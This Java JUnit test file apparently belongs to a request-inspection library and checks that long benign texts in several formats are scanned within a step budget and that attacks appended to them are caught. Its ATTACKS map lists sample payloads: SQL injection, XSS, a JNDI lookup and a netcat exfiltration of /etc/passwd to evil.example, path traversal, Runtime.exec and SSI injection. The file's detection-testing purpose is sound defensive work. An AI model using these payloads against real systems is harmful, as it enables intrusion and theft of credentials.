package io.github.raspspring.growth;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Function;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Long honest texts are judged to their end within the budget, whatever reader brings
 * them, and an attack at their end is found. Steps are counted, nothing is timed.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class LongTextTests {

	/** More than one piece of a long value. */
	private static final int LENGTH = 100 * 1024;

	private static final Map<String, String> ATTACKS = Map.of("sql",
			" x' UNION SELECT name, password FROM users WHERE 'a'='a", "markup", " <img src=x onerror=alert(1)>",
			"lookup", " ${jndi:ldap://evil.example/a}", "path", " ../../../../../../etc/passwd", "command",
			" ; cat /etc/passwd | nc evil.example 99", "expression", " ${T(java.lang.Runtime).getRuntime().exec('id')}",
			"include", " <!--#exec cmd=\"cat /etc/passwd\" -->");

	private final Function<String, Object[]> judged = ReaderGrowthTests.counted(LongTexts.class);

	LongTextTests() throws ReflectiveOperationException {
	}

	@ParameterizedTest
	@ValueSource(strings = { "text", "json", "xml", "form", "csv", "yaml", "graphql" })
	void judgeWhenLongTextIsHonestThenAllOfItIsJudged(String kind) {
		List<String> unjudged = new ArrayList<>();
		for (HonestText text : HonestText.values()) {
			if (judge(kind, text.text(LENGTH))[0] > 0) {
				unjudged.add(text.name());
			}
		}
		assertThat(unjudged).isEmpty();
	}

	@ParameterizedTest
	@ValueSource(strings = { "text", "json", "xml", "form", "csv", "yaml", "graphql" })
	void judgeWhenAttackStandsBehindALongTextThenIsFound(String kind) {
		List<String> missed = new ArrayList<>();
		for (HonestText text : List.of(HonestText.PROSE, HonestText.LOG, HonestText.TABLE, HonestText.MESSAGE,
				HonestText.WORLD, HonestText.ENCODED)) {
			String honest = text.text(LENGTH);
			if (judge(kind, honest)[1] > 0) {
				missed.add(text + " is refused without an attack");
			}
			ATTACKS.forEach((name, attack) -> {
				long[] found = judge(kind, honest + attack);
				if (found[0] > 0 || found[1] == 0) {
					missed.add(text + " " + name);
				}
			});
		}
		assertThat(missed).isEmpty();
	}

	/**
	 * What costs too much is not taken for judged.
	 */
	@Test
	void budgetIsUsedUpByWhatTakesLong() {
		assertThat(judge("hurried", HonestText.CODE.text(LENGTH))[0]).isEqualTo(1);
	}

	private long[] judge(String kind, String text) {
		return (long[]) this.judged.apply(kind + "\n" + text)[1];
	}

}
